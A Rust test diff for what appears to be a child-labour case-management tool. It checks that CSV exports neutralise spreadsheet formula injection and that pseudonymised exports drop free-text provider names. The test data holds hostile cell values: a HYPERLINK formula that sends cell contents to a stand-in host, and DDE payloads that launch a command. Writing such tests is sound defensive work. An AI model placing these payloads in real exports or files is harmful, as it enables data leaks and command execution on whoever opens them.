@@ -1093,6 +1093,82 @@ fn only_a_supervisor_exports_personal_data_and_quoting_round_trips() {
 }
 
 #[test]
+fn csv_cells_are_inert_in_a_spreadsheet_and_visits_count_the_cases_opened_on_them() {
+    let dir = TempDir::new().unwrap();
+    let mut store = open(&dir, "hub.db", SUPERVISOR);
+    let mut w = Workplace::new(
+        "=HYPERLINK(\"http://x.example/?\"&A1)",
+        "cocoa",
+        Formality::Informal,
+        area(C01),
+    );
+    w.owner_contact = "+225 07 00 00 00".into();
+    w.location.point = Some(GeoPoint {
+        latitude: 6.8,
+        longitude: -5.25,
+        accuracy_m: None,
+    });
+    let w = store.create(&w).unwrap();
+    let mut v = Visit::new(VisitKind::LabourInspection, &w, MONITOR, at(2025, 9, 1, 9));
+    v.findings = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    let v = store.create(&v).unwrap();
+    let mut c = child(C01, "-2+3+cmd|' /C calc'!A0", MONITOR);
+    c.identified_on_visit = Some(v.id);
+    let c = store.create(&c).unwrap();
+    as_role(&mut store, Role::Supervisor)
+        .refer_case(
+            c.id,
+            Referral {
+                provider: "\tÉcole de Kouamé Adjoa".into(),
+                ..referral()
+            },
+        )
+        .unwrap();
+
+    let out = dir.path().join("personal");
+    let personal = ExportOptions {
+        include_personal_data: true,
+    };
+    as_role(&mut store, Role::Supervisor)
+        .export_to_dir(&out, ExportFormat::Csv, personal)
+        .unwrap();
+    let cell = |file: &str, column: &str| {
+        let (header, rows) = read_csv(&dir.path().join("personal").join(file));
+        let at = header.iter().position(|h| h == column).unwrap();
+        rows[0][at].clone()
+    };
+    assert_eq!(
+        cell("workplaces.csv", "name"),
+        "'=HYPERLINK(\"http://x.example/?\"&A1)"
+    );
+    assert_eq!(cell("workplaces.csv", "owner_contact"), "'+225 07 00 00 00");
+    // A number is no formula: a negative longitude stays a number.
+    assert_eq!(cell("workplaces.csv", "longitude"), "-5.25");
+    assert_eq!(cell("visits.csv", "findings"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell("child_cases.csv", "name"), "'-2+3+cmd|' /C calc'!A0");
+    assert_eq!(cell("referrals.csv", "provider"), "'\tÉcole de Kouamé Adjoa");
+    assert_eq!(cell("visits.csv", "children_identified"), "1");
+    // JSON is data, not a sheet: the text as written.
+    let tables = as_role(&mut store, Role::Supervisor)
+        .export_tables(personal)
+        .unwrap();
+    assert!(
+        tables[0].rows[0].contains(&serde_json::json!("=HYPERLINK(\"http://x.example/?\"&A1)"))
+    );
+
+    // A provider is free text: it may name a person, so pseudonymised exports leave it out.
+    let out = dir.path().join("pseudonymised");
+    as_role(&mut store, Role::Supervisor)
+        .export_to_dir(&out, ExportFormat::Csv, ExportOptions::default())
+        .unwrap();
+    let text = std::fs::read_to_string(out.join("referrals.csv")).unwrap();
+    assert!(!text.contains("Adjoa") && !text.contains("provider"), "{text}");
+    let (header, rows) = read_csv(&out.join("visits.csv"));
+    let at = header.iter().position(|h| h == "children_identified").unwrap();
+    assert_eq!(rows[0][at], "1");
+}
+
+#[test]
 fn documents_written_before_the_new_fields_still_read() {
     // A case as an earlier version wrote it: none of the new keys.
     let dir = TempDir::new().unwrap();
